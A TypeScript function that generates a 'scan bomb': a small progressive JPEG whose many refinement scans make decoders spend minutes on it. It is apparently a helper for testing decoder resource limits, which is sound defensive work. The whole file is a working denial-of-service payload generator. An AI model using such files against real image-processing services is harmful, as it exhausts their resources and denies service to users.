/**
 * A progressive JPEG that is small, of a size that anybody would decode, and takes minutes: after the first scan come
 * others that say of every block, in a few bytes, that nothing changes.
 * @param scans that follow the first
 */
export function scanBomb(side: number, scans: number): Uint8Array {
  const blocks = (side / 8) ** 2;
  const marker = (code: number, ...body: number[]) => [
    0xff,
    code,
    (body.length + 2) >> 8,
    (body.length + 2) & 255,
    ...body,
  ];
  const quantisation = marker(0xdb, 0, ...new Array<number>(64).fill(1));
  const frame = marker(0xc2, 8, side >> 8, side & 255, side >> 8, side & 255, 1, 1, 0x11, 0);
  // A code of one bit, 0: for a difference of 0 bits, and for a run of 2^14 and more blocks that end at once.
  const lengths = [1, ...new Array<number>(15).fill(0)];
  const tables = [...marker(0xc4, 0x00, ...lengths, 0), ...marker(0xc4, 0x10, ...lengths, 0xe0)];
  const first = [...marker(0xda, 1, 1, 0, 0, 0, 1), ...new Array<number>(Math.ceil(blocks / 8)).fill(0)];
  const run = 2 ** 14;
  // Each run is its code, 0, and 14 bits that are added to its length, all 0.
  const bits = 15 * Math.ceil(blocks / run);
  const scan = [...marker(0xda, 1, 1, 0, 1, 63, 1), ...new Array<number>(Math.ceil(bits / 8)).fill(0)];
  const refinement = [
    ...marker(0xda, 1, 1, 0, 1, 63, 0x10),
    ...new Array<number>(Math.ceil(bits / 8)).fill(0),
  ];
  const many = Buffer.concat([Buffer.from(scan), ...new Array<Buffer>(scans).fill(Buffer.from(refinement))]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, ...quantisation, ...frame, ...tables, ...first]),
    many,
    Buffer.from([0xff, 0xd9]),
  ]);
}
